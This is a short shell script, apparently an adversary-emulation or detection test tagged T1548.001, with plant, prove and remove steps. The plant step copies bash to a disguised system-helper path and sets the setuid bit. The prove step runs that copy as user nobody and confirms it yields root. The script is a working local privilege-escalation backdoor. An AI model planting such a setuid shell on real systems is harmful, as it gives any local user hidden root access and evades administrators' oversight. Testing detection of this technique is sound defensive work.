#!/bin/sh
# T1548.001 (loud): A copy of bash with the owner's bit, under a name of its own
M=/var/tmp/luytre-foothold N=21-suid-shell
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
low() { setpriv --reuid="$1" --regid="$(id -g "$1")" --init-groups env -u SUDO_USER HOME=/tmp sh -c "$2" </dev/null; }
plant() {
  cp /bin/bash /usr/lib/dbus-1.0-helper; chmod 4755 /usr/lib/dbus-1.0-helper
}
prove() {
  rm -f "$M/$N"
  low nobody '/usr/lib/dbus-1.0-helper -p -c "id -u > /var/tmp/luytre-foothold/21-suid-shell; grep Uid /proc/self/status >> /var/tmp/luytre-foothold/21-suid-shell"'
  seen && grep -q 'Uid:.*	0	' $M/$N
}
remove() {
  rm -f /usr/lib/dbus-1.0-helper
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
